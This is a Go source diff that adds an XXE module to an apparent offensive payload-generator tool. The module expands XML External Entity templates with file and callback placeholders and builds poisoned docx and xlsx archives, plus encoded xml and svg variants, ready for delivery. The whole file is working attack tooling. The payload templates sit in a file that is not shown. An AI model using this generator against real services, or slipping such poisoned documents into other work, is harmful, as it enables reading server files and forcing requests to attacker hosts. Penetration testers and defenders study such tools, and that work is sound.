@@ -0,0 +1,142 @@
+package modules
+
+import (
+	"archive/zip"
+	"bytes"
+	"fmt"
+	"sort"
+
+	"github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
+)
+
+// XXEPayload is a complete XML document, or an Office archive carrying one, that declares or includes an external resource
+type XXEPayload struct {
+	Technique   string          `json:"technique"` // classic, parameter-entity, local-dtd, xinclude, ...
+	Format      string          `json:"format"`    // xml, svg, docx or xlsx
+	ContentType string          `json:"content_type"`
+	Part        string          `json:"part,omitempty"` // archive entry holding the document, for docx and xlsx
+	Document    string          `json:"document"`
+	Archive     []byte          `json:"archive,omitempty"` // the docx or xlsx file, base64 in JSON output
+	Encodings   []utils.Variant `json:"encodings,omitempty"`
+}
+
+// Text returns the delivered form of the XXE payload; for archives this is the poisoned part
+func (p XXEPayload) Text() string {
+	return p.Document
+}
+
+// File returns the archive name and content of docx and xlsx payloads
+func (p XXEPayload) File() (string, []byte) {
+	if p.Archive == nil {
+		return "", nil
+	}
+	return "xxe_" + p.Technique + "_" + utils.ShortID(p.Document) + "." + p.Format, p.Archive
+}
+
+func init() {
+	register("xxe", "Generate XML External Entity documents", GenerateXXEPayloads)
+}
+
+// xxeFormat describes how a document of one format is delivered
+type xxeFormat struct {
+	ContentType string
+	Part        string            // archive entry the document replaces; empty for plain documents
+	Files       map[string]string // the rest of a minimal archive
+}
+
+var xxeFormats = map[string]xxeFormat{
+	"xml": {ContentType: "application/xml"},
+	"svg": {ContentType: "image/svg+xml"},
+	"docx": {
+		ContentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		Part:        "word/document.xml",
+		Files: map[string]string{
+			"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
+			"_rels/.rels":         `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
+		},
+	},
+	"xlsx": {
+		ContentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+		Part:        "xl/workbook.xml",
+		Files: map[string]string{
+			"[Content_Types].xml":        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
+			"_rels/.rels":                `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+			"xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+			"xl/worksheets/sheet1.xml":   `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>`,
+		},
+	},
+}
+
+// archive packs the document into a minimal Office file of this format
+func (f xxeFormat) archive(document string) ([]byte, error) {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	// [Content_Types].xml goes first, as Office expects
+	var rest []string
+	for name := range f.Files {
+		if name != "[Content_Types].xml" && name != "_rels/.rels" {
+			rest = append(rest, name)
+		}
+	}
+	sort.Strings(rest)
+	names := append([]string{"[Content_Types].xml", "_rels/.rels"}, rest...)
+	names = append(names, f.Part)
+	for _, name := range names {
+		content, ok := f.Files[name]
+		if name == f.Part {
+			content, ok = document, true
+		}
+		if !ok {
+			continue
+		}
+		w, err := zw.Create(name)
+		if err != nil {
+			return nil, err
+		}
+		if _, err := w.Write([]byte(content)); err != nil {
+			return nil, err
+		}
+	}
+	if err := zw.Close(); err != nil {
+		return nil, err
+	}
+	return buf.Bytes(), nil
+}
+
+// LoadXXEPayloads loads XXE document templates from the embedded xxe.json and any user layers
+func LoadXXEPayloads(opts Options) ([]XXEPayload, error) {
+	return loadCorpus[XXEPayload](opts, "xxe", "xxe.json")
+}
+
+// GenerateXXEPayloads expands the document templates with the file and callback placeholders and
+// packs docx and xlsx documents into archives
+func GenerateXXEPayloads(opts Options) ([]XXEPayload, error) {
+	templates, err := LoadXXEPayloads(opts)
+	if err != nil {
+		return nil, err
+	}
+
+	var payloads []XXEPayload
+	for _, tpl := range templates {
+		format, ok := xxeFormats[tpl.Format]
+		if !ok {
+			return nil, fmt.Errorf("unknown XXE format %q", tpl.Format)
+		}
+		for _, e := range expand(opts, tpl.Document) {
+			p := tpl
+			p.Document = e.Text
+			p.ContentType = format.ContentType
+			if format.Part != "" {
+				p.Part = format.Part
+				p.Archive, err = format.archive(p.Document)
+				if err != nil {
+					return nil, fmt.Errorf("failed to build %s archive: %v", tpl.Format, err)
+				}
+			} else {
+				p.Encodings = utils.EncodeVariants(p.Document, opts.encoders())
+			}
+			payloads = append(payloads, p)
+		}
+	}
+	return payloads, nil
+}